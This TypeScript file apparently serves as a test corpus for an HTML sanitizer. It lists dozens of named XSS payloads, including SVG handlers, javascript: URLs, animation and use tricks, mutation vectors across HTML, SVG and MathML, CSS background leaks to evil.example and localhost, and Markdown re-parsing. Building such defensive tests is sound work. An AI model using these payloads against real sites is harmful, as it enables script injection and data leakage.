/**
 * Markup that would run, load or break out by what SAFE content lets in besides text: drawings,
 * players, pictures that are not in `img`, gradients, labels. By name, and calling `alert(1)` or
 * `evil.example`, as in `xss-corpus.ts`.
 */
export const xssLetIn: readonly (readonly [name: string, html: string])[] = [
  // Each tag of a drawing, with all that may hang on it
  ...['svg', 'g', 'path', 'rect', 'circle', 'ellipse', 'line', 'polyline', 'polygon', 'text', 'tspan'].map(
    (tag): [string, string] => [
      `${tag} with handlers, an address and a name`,
      `<svg viewBox="0 0 9 9"><${tag} id=body name=cookie class=x onload=alert(1) onclick=alert(1) onfocus=alert(1) tabindex=0 href="javascript:alert(1)" xlink:href="javascript:alert(1)" d="M0 0" fill="url(https://evil.example/x.svg#a)" filter="url(https://evil.example/f.svg#a)" mask="url(//evil.example/m.svg#a)" clip-path="url(//evil.example/c.svg#a)" marker-end="url(//evil.example/e.svg#a)" style="fill:url(https://evil.example/y);background:url(javascript:alert(1))" width=9 height=9>a</${tag}></svg>`,
    ],
  ),
  ...[
    'd',
    'points',
    'transform',
    'viewBox',
    'fill',
    'stroke',
    'x',
    'width',
    'font-size',
    'aria-label',
    'role',
  ].map((name): [string, string] => [
    `${name} that ends its quotes`,
    `<svg ${name}='"><img src=x onerror=alert(1)>'><path ${name}='"/><script>alert(1)</script>' d="M0 0" /><text ${name}="--><img src=x onerror=alert(1)>">a</text></svg>`,
  ]),
  // What runs within one
  [
    'a script between shapes',
    '<svg><rect width=9 height=9 /><script>alert(1)</script><rect width=9 /></svg>',
  ],
  [
    'a style between shapes',
    '<svg><rect width=9 height=9 /><style>@import "https://evil.example/x.css";*{fill:red}</style></svg>',
  ],
  [
    'an animated address of a picture',
    '<svg><image width=9 height=9><animate attributeName=href values="https://evil.example/x" /></image><rect width=9 height=9 /></svg>',
  ],
  [
    'an animated address of a use',
    '<svg><rect id=r width=9 height=9 /><use><set attributeName=href to="https://evil.example/x.svg#a" /></use></svg>',
  ],
  [
    'an animated handler of a shape',
    '<svg><rect width=9 height=9><animate attributeName=onclick values=alert(1) /><set attributeName=onload to=alert(1) /></rect></svg>',
  ],
  [
    'an animation of another element',
    '<svg><a id=l><text y=9>a</text></a><animate xlink:href=#l attributeName=xlink:href values="javascript:alert(1)" /></svg>',
  ],
  ['a discard that runs', '<svg><rect width=9 height=9><discard onbegin=alert(1) begin=0s /></rect></svg>'],
  // Use
  [
    'a use of a script',
    '<svg><defs><script id=s>alert(1)</script></defs><use href=#s /><rect width=9 height=9 /></svg>',
  ],
  [
    'a use of a link',
    '<svg><defs><a id=s href="javascript:alert(1)"><text y=9>a</text></a></defs><use href=#s /></svg>',
  ],
  [
    'a use of HTML',
    '<svg><defs><foreignObject id=s><img src=x onerror=alert(1)></foreignObject></defs><use href=#s /><rect width=9 height=9 /></svg>',
  ],
  ['a use of itself', '<svg><g id=a><use href=#a /><path d="M0 0"/></g></svg>'],
  [
    'uses of each other',
    '<svg><g id=a><use href=#b /></g><g id=b><use href=#a /></g><rect width=9 height=9 /></svg>',
  ],
  [
    'a use from elsewhere',
    '<svg><use href="https://evil.example/x.svg#a" /><use xlink:href="//evil.example/x.svg#a" /><rect width=9 height=9 /></svg>',
  ],
  ['a use of the page', '<p id=outside>a</p><svg><use href=#outside /><rect width=9 height=9 /></svg>'],
  // Pictures
  [
    'a picture of a drawing that runs',
    '<svg><image href="javascript:alert(1)" width=9 height=9 /><image xlink:href="data:image/svg+xml,<svg onload=alert(1)>" /></svg>',
  ],
  [
    'a picture of a drawing that tells where it is',
    '<svg><image href="https://evil.example/x.png" width=9 height=9 crossorigin=use-credentials /></svg>',
  ],
  [
    'an image within feImage',
    '<svg><filter id=f><feImage href="https://evil.example/f.png" /></filter><rect width=9 height=9 style="filter:url(#f)" /></svg>',
  ],
  [
    'a pattern from elsewhere',
    '<svg><pattern id=p><image href="https://evil.example/p.png" /></pattern><rect width=9 height=9 fill="url(#p)" /></svg>',
  ],
  [
    'a gradient that goes on elsewhere',
    '<svg><linearGradient id=g href="https://evil.example/g.svg#x"></linearGradient><rect width=9 height=9 fill="url(#g)" /></svg>',
  ],
  [
    'a gradient of itself',
    '<svg><linearGradient id=g href=#g /><rect width=9 height=9 fill="url(#g)" stroke="url(#g)" /></svg>',
  ],
  // Mutation over the border between HTML and drawings
  [
    'HTML in a drawing',
    '<svg><rect width=9 height=9 /><p><style><img src="</style><img src=x onerror=alert(1)>"></p></svg>',
  ],
  [
    'a drawing in HTML in a drawing',
    '<svg><foreignObject><svg><style><a id="</style><img src=x onerror=alert(1)>"></svg></foreignObject><rect width=9 height=9 /></svg>',
  ],
  [
    'a style in HTML in a drawing',
    '<svg><foreignObject><style><!--</style><img title="--><img src=x onerror=alert(1)>"></foreignObject><path d="M0 0" /></svg>',
  ],
  [
    'MathML in a drawing in MathML',
    '<math><mtext><svg><path d="M0 0" /><foreignObject><math><mtext><mglyph><style><!--</style><img title="--><img src=x onerror=alert(1)>">',
  ],
  [
    'a table in a drawing',
    '<table><svg><g><rect width=9 height=9 /><table><tr><td><style><a title="</style><img src=x onerror=alert(1)>"></table></svg></table>',
  ],
  [
    'a drawing in a form in a drawing',
    '<form><svg><g></form><form><path d="M0 0" /><style></g></svg><img src=x onerror=alert(1)></form>',
  ],
  ['a drawing cut off in a comment', '<svg><path d="M0 0" /><!--</svg><img src=x onerror=alert(1)>-->'],
  [
    'a drawing cut off in CDATA',
    '<svg><text y=9><![CDATA[</text></svg><img src=x onerror=alert(1)>]]></text></svg>',
  ],
  [
    'entities in the text of a drawing',
    '<svg><text y=9>&lt;/text>&lt;/svg>&lt;img src=x onerror=alert(1)></text></svg>',
  ],
  [
    'a title within the text of a drawing',
    '<svg><text y=9><title><style></title></style><img src=x onerror=alert(1)></text></svg>',
  ],
  [
    'tags of drawings in HTML',
    '<g><path d="M0 0"></path><use href="https://evil.example/x.svg#a"></use><text y=9>a</text><image src=x onerror=alert(1)></g>',
  ],
  [
    'a drawing in a pre',
    '<pre><svg><rect width=9 height=9 /><style></pre><img src=x onerror=alert(1)></style></svg></pre>',
  ],
  [
    'names in capitals',
    '<SVG><forEignObject><IMG SRC=x ONERROR=alert(1)></forEignObject><RECT WIDTH=9 HEIGHT=9 ONLOAD=alert(1) /></SVG>',
  ],
  [
    'text of a drawing in a select',
    '<select><svg><text y=9></select><img src=x onerror=alert(1)></text></svg>',
  ],
  // Pictures that are not in img
  [
    'a background that runs',
    '<section style="background-image:url(javascript:alert(1))">a</section><td background="javascript:alert(1)">b</td>',
  ],
  [
    'a background with a page',
    '<section style="background:url(data:text/html,<script>alert(1)</script>)">a</section><p data-lazy-bgimg="data:text/html,<script>alert(1)</script>">b</p>',
  ],
  [
    'a background that ends its quotes',
    `<section style='background-image:url("https://mmbiz.qpic.cn/a&quot;onerror=&quot;alert(1)")'>a</section>`,
  ],
  [
    'a background of this machine',
    '<section style="background:url(http://127.0.0.1/x)">a</section><svg style="background:url(//localhost/x)"></svg><p data-lazy-bgimg="http://[::1]/x">b</p>',
  ],
  [
    'a background by escapes',
    '<p style="background-image:u\\72l(https://evil.example/x)">a</p><p style="background-image:url(\\6aavascript:alert(1))">b</p>',
  ],
  [
    'a background as a set',
    `<p style="background-image:image-set('https://evil.example/leak' 1x)">a</p><p style="background-image:-webkit-cross-fade(url(https://evil.example/a),url(https://evil.example/b),50%)">b</p>`,
  ],
  [
    'a gradient that ends',
    '<p style="background-image:linear-gradient(red,blue);position:fixed;inset:0">a</p><p style="background-image:linear-gradient(red,expression(alert(1)))">b</p>',
  ],
  [
    'a gradient with an address',
    '<p style="background-image:linear-gradient(red,url(https://evil.example/leak))">a</p>',
  ],
  // Embeds
  [
    'a formula that runs',
    '<span data-formula="<img src=x onerror=alert(1)>"><embed src="javascript:alert(1)" data-type="svg+xml"></span>',
  ],
  [
    'a formula of a page',
    '<embed data-type="svg+xml" src="data:image/svg+xml,<svg onload=alert(1)>"><object type="image/svg+xml" data="javascript:alert(1)"></object>',
  ],
  [
    'a formula that ends its quotes',
    `<span data-formula='"><script>alert(1)</script>'><embed src="https://mmbiz.qpic.cn/a" data-type="svg+xml"></span>`,
  ],
  [
    'a label of tags',
    '<mpvoice name="<img src=x onerror=alert(1)>"></mpvoice><qqmusic music_name="</span><script>alert(1)</script>" singer="&lt;svg onload=alert(1)&gt;"></qqmusic>',
  ],
  [
    'a label in percent code',
    '<mp-common-profile data-nickname="%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E"></mp-common-profile>',
  ],
  [
    'a cover that runs',
    '<iframe class=video_iframe data-mpvid=a data-cover="javascript%3Aalert(1)" onload=alert(1)></iframe><mpvideosnap data-url="javascript:alert(1)"></mpvideosnap>',
  ],
  [
    'a cover of this machine',
    '<iframe class=video_iframe data-mpvid=a data-cover="http%3A%2F%2F127.0.0.1%2Fx"></iframe>',
  ],
  [
    'a recording with an odd number',
    '<mpvoice name=a voice_encode_fileid="x&quot; onerror=alert(1) &quot;"></mpvoice><mpvoice name=b voice_encode_fileid="../../evil"></mpvoice>',
  ],
  [
    'a recording from elsewhere',
    '<audio src="https://evil.example/leak.mp3" title=a autoplay onplay=alert(1)></audio><qqmusic music_name=a audiourl="https://evil.example/leak.m4a"></qqmusic>',
  ],
  [
    'a film from elsewhere',
    '<video src="https://evil.example/leak.mp4" poster="https://evil.example/poster" autoplay onerror=alert(1)></video>',
  ],
  [
    'a film of a host like those',
    '<video title=a src="https://mpvideo.qpic.cn.evil.example/leak"></video><video title=a src="https://evil.example/?.qq.com"></video><audio title=a src="https://user@res.wx.qq.com/"></audio>',
  ],
  [
    'a film that plays at once',
    '<video src="https://mpvideo.qpic.cn/a.mp4" autoplay preload=auto onloadstart=alert(1) onerror=alert(1)><source src=x onerror=alert(1)><track src="https://evil.example/t"></video>',
  ],
  [
    'a film that runs',
    '<video src="javascript:alert(1)" title=a></video><audio title=b><source src="data:text/html,<script>alert(1)</script>" onerror=alert(1)></audio>',
  ],
  [
    'code in no language',
    '<pre data-lang="js onclick=alert(1)"><code class="language-&quot;onclick=alert(1)">alert</code></pre>',
  ],
  [
    'code that ends its fence',
    '<pre>```\n<img src=x onerror=alert(1)>\n```\n````\n<script>alert(1)</script>\n</pre>',
  ],
  [
    'code that ends its line',
    '<p><code>`<img src=x onerror=alert(1)>`</code> `` &lt;img src=x onerror=alert(1)&gt; ``</p>',
  ],
  // What is text is text in Markdown, too
  [
    'Markdown that is a tag',
    '&lt;img src=x onerror=alert(1)&gt;<p>&lt;script&gt;alert(1)&lt;/script&gt;</p><li>&lt;svg onload=alert(1)&gt;</li>',
  ],
  [
    'Markdown that is a link',
    '<p>[a](javascript:alert(1)) ![b](javascript:alert(1)) &lt;javascript:alert(1)&gt;</p>',
  ],
  ['Markdown that defines a link', '<p>[a]</p><p>[a]: javascript:alert(1)</p>'],
  [
    'Markdown that ends a picture',
    '<img alt="](https://evil.example/) <img src=x onerror=alert(1)>" title="&quot;) <script>alert(1)</script>" src="https://mmbiz.qpic.cn/a">',
  ],
  [
    'Markdown over two elements',
    '<p>&lt;<span>img src=x </span><b>onerror=alert(1)</b>&gt;</p><p>&lt;img<br>src=x onerror=alert(1)&gt;</p>',
  ],
  ['Markdown that is a comment', '<p>&lt;!--</p><p>--&gt;&lt;img src=x onerror=alert(1)&gt;</p>'],
  ['Markdown in a cell', '<table><tr><td>|&lt;img src=x onerror=alert(1)&gt;|</td><td>`|`</td></tr></table>'],
  [
    'Markdown after a backslash',
    '<p>\\&lt;img src=x onerror=alert(1)&gt; \\\\&lt;img src=x onerror=alert(1)&gt;</p>',
  ],
  [
    'Markdown of entities',
    '<p>&amp;lt;img src=x onerror=alert(1)&amp;gt; &amp;#60;img src=x onerror=alert(1)&amp;#62;</p>',
  ],
  [
    'Markdown behind an indent',
    '<p>&nbsp;&nbsp;&nbsp;&nbsp;&lt;img src=x onerror=alert(1)&gt;</p><p style="white-space:pre-wrap">    &lt;img src=x onerror=alert(1)&gt;\n\n    &lt;script&gt;alert(1)&lt;/script&gt;</p>',
  ],
];
